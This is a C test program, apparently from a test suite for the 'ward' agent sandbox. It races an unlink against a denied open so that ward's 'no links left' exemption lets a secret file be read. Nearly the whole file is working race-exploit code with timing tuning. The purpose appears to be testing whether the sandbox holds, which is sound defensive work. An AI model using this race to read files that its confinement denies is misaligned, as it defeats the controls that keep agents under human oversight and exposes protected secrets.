/*
 * attack_unlink_race - read a secret by deleting it while ward decides.
 *
 * ward exempts "a file with no links left" from the path policy (it is
 * taken to be the agent's own anonymous file).  If the file ward opened
 * for a read of secret/race/N loses its last link between ward's lookup
 * and that check, the open is not judged at all.  The policy allows
 * deleting in the project (deny read does not forbid delete), so the agent
 * can unlink the file itself, from a second thread, at the right moment.
 *
 * The driver makes secret/race/0..N-1 (the secret's content each).  For
 * each file a thread opens it while another unlinks it after a delay that
 * homes in on the window (an unlink that comes too early makes the open
 * fail with ENOENT, one too late lets ward deny it).  Reading the secret
 * once is a LEAK.  Three such pairs run at once, on their own files.
 *
 * A try is in the window when the unlink ran from start to end while the
 * open was in the kernel; none so is a race never run: missed.
 */
#include "attack.h"

#include <pthread.h>

#define PAIRS 3

struct pair {
	pthread_barrier_t bar;
	volatile unsigned delay_spins;
	volatile int in_open; /* the opener is in its open */
	int during;	      /* the unlink ran while it was */
	char name[64];
};

static volatile unsigned long tries, denied, missing, other, windows;
static volatile int other_errno;
static int files;
static double end;

static void *unlinker(void *arg)
{
	struct pair *p = arg;
	pthread_barrier_wait(&p->bar);
	for (volatile unsigned i = 0; i < p->delay_spins; i++)
		;
	int before = __atomic_load_n(&p->in_open, __ATOMIC_SEQ_CST);
	unlink(p->name);
	p->during = before && __atomic_load_n(&p->in_open, __ATOMIC_SEQ_CST);
	return NULL;
}

/* One opener: files k, k + PAIRS, ...; each with its own unlinking thread. */
static void *opener(void *arg)
{
	int k = (int)(intptr_t)arg;
	struct pair p;
	double delay = 2000;

	for (int i = k; i < files && now() < end && !att_through; i += PAIRS) {
		snprintf(p.name, sizeof(p.name), "secret/race/%d", i);
		/* Home in on the window: too early -> ENOENT, too late -> EACCES. */
		double d = delay + (double)((i * 7919u) % 8000u) - 4000.0;
		p.delay_spins = (unsigned)(d > 0 ? d : 0);
		pthread_t t;
		pthread_barrier_init(&p.bar, NULL, 2);
		if (pthread_create(&t, NULL, unlinker, &p) != 0)
			setup_failed("pthread_create");
		p.during = 0;
		pthread_barrier_wait(&p.bar);
		__atomic_store_n(&p.in_open, 1, __ATOMIC_SEQ_CST);
		int fd = open(p.name, O_RDONLY | O_CLOEXEC);
		int e = errno;
		__atomic_store_n(&p.in_open, 0, __ATOMIC_SEQ_CST);
		errno = e;
		__atomic_add_fetch(&tries, 1, __ATOMIC_RELAXED);
		if (fd >= 0) {
			if (!check_fd("open of secret/race/N while it is unlinked", fd))
				say("note: opened %s, not the secret", p.name);
			close(fd);
		} else if (errno == ENOENT) {
			__atomic_add_fetch(&missing, 1, __ATOMIC_RELAXED);
			delay += 150;
		} else if (errno == EACCES) {
			__atomic_add_fetch(&denied, 1, __ATOMIC_RELAXED);
			delay = delay > 160 ? delay - 160 : 0;
		} else {
			other_errno = errno;
			__atomic_add_fetch(&other, 1, __ATOMIC_RELAXED);
		}
		pthread_join(t, NULL);
		if (p.during)
			__atomic_add_fetch(&windows, 1, __ATOMIC_RELAXED);
		pthread_barrier_destroy(&p.bar);
	}
	return NULL;
}

int main(void)
{
	pthread_t t[PAIRS];

	while (files < 100000) {
		char p[64];
		snprintf(p, sizeof(p), "secret/race/%d", files);
		struct stat st;
		if (stat(p, &st) < 0)
			break;
		files++;
	}
	if (files == 0) {
		errno = ENOENT;
		setup_failed("secret/race/0");
	}
	end = now() + race_seconds();
	for (int k = 0; k < PAIRS; k++)
		if (pthread_create(&t[k], NULL, opener, (void *)(intptr_t)k) != 0)
			setup_failed("pthread_create");
	for (int k = 0; k < PAIRS; k++)
		pthread_join(t[k], NULL);
	say("note: %lu tries: %lu denied, %lu already gone, %lu other errors (last: %s)", tries,
	    denied, missing, other, other ? strerror(other_errno) : "none");
	/* A stray error among many tries does not undo the race (see
	 * attack_race_path.c); more than one in a hundred is a setup gone wrong. */
	if (!att_through && (denied == 0 || other * 100 > tries))
		missed("the race was one-sided or went wrong: %lu refused, %lu other errors (last: %s)",
		       denied, other, other ? strerror(other_errno) : "none");
	race_done("secret/race/N unlinked while ward decided its open", tries, windows);
	return finish();
}
